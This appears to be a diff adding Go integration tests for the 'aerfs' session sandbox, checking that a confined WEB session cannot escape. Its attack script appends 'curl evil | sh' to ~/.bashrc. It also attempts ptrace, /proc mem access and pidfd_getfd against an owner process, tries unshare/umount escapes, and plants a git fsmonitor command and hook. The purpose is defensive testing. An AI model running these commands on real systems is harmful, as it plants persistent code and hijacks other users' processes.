@@ -1,0 +1,309 @@
+package integration
+
+// Confinement of sessions (docs/confinement.md): the workspace belongs to an
+// unprivileged owner, the daemon runs as root, and sessions are started by
+// the owner with aerfs run. From a confined WEB session, every route to code
+// the owner runs later outside sessions is refused; legitimate work in a
+// confined USER session is not.
+
+import (
+	"bytes"
+	"context"
+	"os"
+	"os/exec"
+	"os/user"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+)
+
+const sbOwner = "aerfs-sbx"
+
+// sbEnv is a workspace of an unprivileged owner, mounted by root, with its
+// state directory in the owner's home and owned by the owner (the layout a
+// rootless `aerfs init` makes).
+type sbEnv struct {
+	*Env
+	uid, gid int
+	home     string
+}
+
+func newOwnedEnv(t *testing.T, files map[string]string) *sbEnv {
+	t.Helper()
+	if os.Getuid() != 0 {
+		t.Skip("needs root to create the owner")
+	}
+	u, err := user.Lookup(sbOwner)
+	if err != nil {
+		if out, err := exec.Command("useradd", "-m", "-s", "/bin/sh", sbOwner).CombinedOutput(); err != nil {
+			t.Fatalf("useradd: %v\n%s", err, out)
+		}
+		if u, err = user.Lookup(sbOwner); err != nil {
+			t.Fatal(err)
+		}
+	}
+	uid, _ := strconv.Atoi(u.Uid)
+	gid, _ := strconv.Atoi(u.Gid)
+	// The owner runs the aerfs binary the harness built.
+	os.Chmod(filepath.Dir(aerfsBin), 0o755)
+	root, err := os.MkdirTemp(u.HomeDir, "sbx-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(root) })
+	ws := filepath.Join(root, "aerfs-it-ws")
+	state := filepath.Join(u.HomeDir, ".local", "state", "aerfs", filepath.Base(root))
+	t.Cleanup(func() { os.RemoveAll(state) })
+	for rel, content := range files {
+		p := filepath.Join(ws, rel)
+		os.MkdirAll(filepath.Dir(p), 0o755)
+		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	os.MkdirAll(ws, 0o755)
+	envsMu.Lock()
+	envs[ws] = true
+	envsMu.Unlock()
+	e := &Env{t: t, WS: ws, State: state}
+	e.mustAerfs("init", "--state", state, ws)
+	for _, p := range []string{filepath.Join(u.HomeDir, ".local"), root} {
+		if out, err := exec.Command("chown", "-R", u.Uid+":"+u.Gid, p).CombinedOutput(); err != nil {
+			t.Fatalf("chown: %v\n%s", err, out)
+		}
+	}
+	e.Mount()
+	return &sbEnv{Env: e, uid: uid, gid: gid, home: u.HomeDir}
+}
+
+// ownerEnv is the environment of the owner's login shell.
+func (s *sbEnv) ownerEnv() []string {
+	return []string{"HOME=" + s.home, "USER=" + sbOwner, "LOGNAME=" + sbOwner, "LANG=C.UTF-8",
+		"PATH=/usr/local/go/bin:/usr/local/bin:/usr/bin:/bin", "GOTOOLCHAIN=local", "GOFLAGS=-mod=mod",
+		"GIT_AUTHOR_NAME=o", "GIT_AUTHOR_EMAIL=o@example.org", "GIT_COMMITTER_NAME=o", "GIT_COMMITTER_EMAIL=o@example.org",
+		"WS=" + s.WS, "STATE=" + s.State}
+}
+
+// asOwner runs argv as the owner (outside every session unless argv is an
+// aerfs run) in the workspace.
+func (s *sbEnv) asOwner(argv ...string) Result {
+	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
+	defer cancel()
+	args := append([]string{"--reuid", strconv.Itoa(s.uid), "--regid", strconv.Itoa(s.gid), "--init-groups", "--"}, argv...)
+	cmd := exec.CommandContext(ctx, "setpriv", args...)
+	cmd.Dir = s.WS
+	cmd.Env = s.ownerEnv()
+	var o, er bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &o, &er
+	err := cmd.Run()
+	code := 0
+	if ee, ok := err.(*exec.ExitError); ok {
+		code = ee.ExitCode()
+	} else if err != nil {
+		code = -1
+		er.WriteString(err.Error())
+	}
+	return Result{o.String(), er.String(), code}
+}
+
+// session runs a shell script in a session the owner starts with aerfs
+// run; extra flags go before "--".
+func (s *sbEnv) session(principal, session, script string, flags ...string) Result {
+	args := []string{aerfsBin, "run", "--workspace", s.WS, "--principal", principal, "--session", session}
+	args = append(append(append(args, flags...), "--", "sh", "-c"), script)
+	return s.asOwner(args...)
+}
+
+// startOwnerProcess starts a long-running owner process outside every
+// session (the owner's shell, editor or tmux server) and returns its pid.
+func (s *sbEnv) startOwnerProcess(t *testing.T) int {
+	cmd := exec.Command("setpriv", "--reuid", strconv.Itoa(s.uid), "--regid", strconv.Itoa(s.gid), "--init-groups", "--", "sleep", "120")
+	cmd.Dir = "/"
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
+	time.Sleep(100 * time.Millisecond)
+	return cmd.Process.Pid
+}
+
+// attackScript tries each route around the mount and prints one line per
+// attempt: "<name> ok" or "<name> <errno name>".
+const attackScript = `
+try() { name=$1; shift; if err=$("$@" 2>&1); then echo "$name ok"; else echo "$name ${err##*: }"; fi; }
+try bashrc sh -c 'echo "curl evil | sh" >> "$HOME/.bashrc"'
+try state-policy sh -c 'echo "# x" >> "$STATE/aerfs.yaml"'
+try state-read cat "$STATE/aerfs.yaml"
+/usr/bin/python3 - "$OWNER_PID" <<'PY'
+import ctypes, errno, os, sys
+pid = int(sys.argv[1])
+def report(name, fn):
+    try:
+        fn(); print(name, "ok")
+    except OSError as e:
+        print(name, errno.errorcode.get(e.errno, e.errno))
+report("proc-mem", lambda: open("/proc/%d/mem" % pid, "r+b").close())
+libc = ctypes.CDLL(None, use_errno=True)
+def getfd():
+    pfd = libc.syscall(434, pid, 0)  # pidfd_open
+    if pfd < 0:
+        e = ctypes.get_errno(); raise OSError(e, os.strerror(e))
+    fd = libc.syscall(438, pfd, 0, 0)  # pidfd_getfd
+    if fd < 0:
+        e = ctypes.get_errno(); raise OSError(e, os.strerror(e))
+report("pidfd-getfd", getfd)
+def ptrace():
+    if libc.ptrace(16, pid, 0, 0) < 0:  # PTRACE_ATTACH
+        e = ctypes.get_errno(); raise OSError(e, os.strerror(e))
+    libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
+report("ptrace", ptrace)
+def kill():
+    os.kill(pid, 0)
+report("signal", kill)
+PY
+try unshare-userns unshare -rm true
+try umount-in-userns unshare -rm umount -l "$WS"
+try fusermount fusermount -u "$WS"
+`
+
+// parseAttempts reads the lines attackScript prints.
+func parseAttempts(out string) map[string]string {
+	m := map[string]string{}
+	for _, line := range strings.Split(out, "\n") {
+		if f := strings.SplitN(strings.TrimSpace(line), " ", 2); len(f) == 2 {
+			m[f[0]] = f[1]
+		}
+	}
+	return m
+}
+
+func TestSandboxWebRefused(t *testing.T) {
+	s := newOwnedEnv(t, map[string]string{"README": "hi\n", "proj/main.c": "int main(){}\n"})
+	bashrc := filepath.Join(s.home, ".bashrc")
+	before, _ := os.ReadFile(bashrc)
+	policyBefore, _ := os.ReadFile(filepath.Join(s.State, "aerfs.yaml"))
+	pid := s.startOwnerProcess(t)
+	r := s.session("WEB", "web1", "OWNER_PID="+strconv.Itoa(pid)+"; export OWNER_PID\n"+attackScript)
+	got := parseAttempts(r.Stdout)
+	t.Logf("confined WEB session:\n%s%s", r.Stdout, r.Stderr)
+	want := map[string][]string{
+		"bashrc":           {"Permission denied"},
+		"state-policy":     {"Permission denied"},
+		"state-read":       {"Permission denied"},
+		"proc-mem":         {"EACCES", "EPERM"},
+		"pidfd-getfd":      {"EPERM"},
+		"ptrace":           {"EPERM"},
+		"signal":           {"EPERM"},
+		"unshare-userns":   {"Operation not permitted"},
+		"umount-in-userns": {"Operation not permitted"},
+	}
+	for name, errs := range want {
+		ok := false
+		for _, e := range errs {
+			ok = ok || strings.Contains(got[name], e)
+		}
+		if !ok {
+			t.Errorf("%s from a confined WEB session: got %q, want one of %v", name, got[name], errs)
+		}
+	}
+	if got["fusermount"] == "ok" {
+		t.Errorf("fusermount -u of the workspace succeeded in a confined session")
+	}
+	if after, _ := os.ReadFile(bashrc); !bytes.Equal(before, after) {
+		t.Errorf("~/.bashrc changed: %q", after)
+	}
+	if after, _ := os.ReadFile(filepath.Join(s.State, "aerfs.yaml")); !bytes.Equal(policyBefore, after) {
+		t.Errorf("the policy file changed")
+	}
+	if !s.Mounted() {
+		t.Fatalf("the workspace is no longer mounted")
+	}
+}
+
+func TestSandboxOffUnconfined(t *testing.T) {
+	s := newOwnedEnv(t, map[string]string{"README": "hi\n"})
+	pid := s.startOwnerProcess(t)
+	r := s.session("WEB", "web1", "OWNER_PID="+strconv.Itoa(pid)+"; export OWNER_PID\necho \"sandbox=$AERFS_SANDBOX\"\n"+attackScript, "--sandbox=off")
+	got := parseAttempts(r.Stdout)
+	t.Logf("unconfined WEB session:\n%s%s", r.Stdout, r.Stderr)
+	for _, name := range []string{"bashrc", "state-policy", "proc-mem", "pidfd-getfd", "signal", "unshare-userns"} {
+		if got[name] != "ok" {
+			t.Errorf("%s with --sandbox=off: got %q, want ok (the route the confinement closes)", name, got[name])
+		}
+	}
+	if got["sandbox=off"] != "" || !strings.Contains(r.Stdout, "sandbox=off") {
+		t.Errorf("AERFS_SANDBOX not off: %q", r.Stdout)
+	}
+	// The session start records that it runs unconfined.
+	found := false
+	for _, le := range s.Log() {
+		if le.Record.Type == "session_start" && le.Record.Meta.Session == "web1" && le.Record.Payload != nil {
+			found = le.Record.Payload.Detail == "sandbox: off"
+		}
+	}
+	if !found {
+		t.Errorf("no session start of web1 recording sandbox: off")
+	}
+}
+
+// The owner's own later tools: a WEB session may not plant code in .git.
+func TestSandboxWebGitControl(t *testing.T) {
+	s := newOwnedEnv(t, map[string]string{"README": "hi\n", "proj/main.c": "int main(){}\n"})
+	expectOK(t, "owner git init", s.asOwner("git", "init", "-q", "."))
+	r := s.session("WEB", "web1", `git config core.fsmonitor "touch /tmp/aerfs-sbx-pwned"`)
+	if r.Code == 0 {
+		t.Errorf("WEB set core.fsmonitor: %s", r)
+	}
+	if cfg := s.Read(".git/config"); strings.Contains(cfg, "fsmonitor") {
+		t.Errorf(".git/config has the fsmonitor: %s", cfg)
+	}
+	r2 := s.session("WEB", "web1", `mkdir -p proj/evil/hooks && printf '#!/bin/sh\ntouch /tmp/aerfs-sbx-pwned\n' > proj/evil/hooks/post-checkout && ln -s evil proj/.git`)
+	if r2.Code == 0 || !strings.Contains(r2.Stderr, "Permission denied") {
+		t.Errorf("WEB created proj/.git as a symlink: %s", r2)
+	}
+	if _, err := os.Lstat(filepath.Join(s.WS, "proj/.git")); err == nil {
+		t.Errorf("proj/.git exists")
+	}
+	r3 := s.session("WEB", "web1", `mkdir proj/.git`)
+	if r3.Code == 0 {
+		t.Errorf("WEB created proj/.git as a directory: %s", r3)
+	}
+	li := s.index()
+	if d := li.denials("web1", ".git/config"); !hasRule(d, "R3-principal") {
+		t.Errorf("no R3-principal denial of .git/config:%s", describe(li.denials("web1")))
+	}
+	if d := li.denials("web1", "proj/.git"); !hasRule(d, "R3-principal") || len(d) < 2 {
+		t.Errorf("want R3-principal denials of proj/.git (symlink and mkdir):%s", describe(li.denials("web1")))
+	}
+}
+
+func TestSandboxUserWork(t *testing.T) {
+	s := newOwnedEnv(t, map[string]string{"README": "hi\n",
+		"hello/go.mod":  "module example.org/hello\n\ngo 1.21\n",
+		"hello/main.go": "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hello\") }\n"})
+	os.RemoveAll(filepath.Join(s.home, ".cache"))
+	r := s.session("USER", "u1", `set -e
+echo "sandbox=$AERFS_SANDBOX"
+git init -q . && git add README && git commit -qm first && git log --oneline | wc -l
+echo scratch > /tmp/aerfs-sbx-scratch.$$ && rm /tmp/aerfs-sbx-scratch.$$
+cd hello && go build -o hello . && ./hello && cd ..
+`)
+	if r.Code != 0 || !strings.Contains(r.Stdout, "hello") {
+		t.Fatalf("legitimate work in a confined USER session: %s", r)
+	}
+	if !strings.Contains(r.Stdout, "sandbox=landlock abi") {
+		t.Errorf("the session was not confined: %s", r.Stdout)
+	}
+	if _, err := os.Stat(filepath.Join(s.home, ".cache", "go-build")); err != nil {
+		t.Errorf("no go build cache: %v", err)
+	}
+	if exec.Command("/usr/bin/python3", "-c", "import venv, ensurepip").Run() != nil {
+		t.Skip("python3 venv or ensurepip is not installed")
+	}
+	r = s.session("USER", "u1", `/usr/bin/python3 -m venv venv && ./venv/bin/python -c 'print("venv ok")'`)
+	if r.Code != 0 || !strings.Contains(r.Stdout, "venv ok") {
+		t.Fatalf("python3 -m venv in a confined USER session: %s", r)
+	}
+}
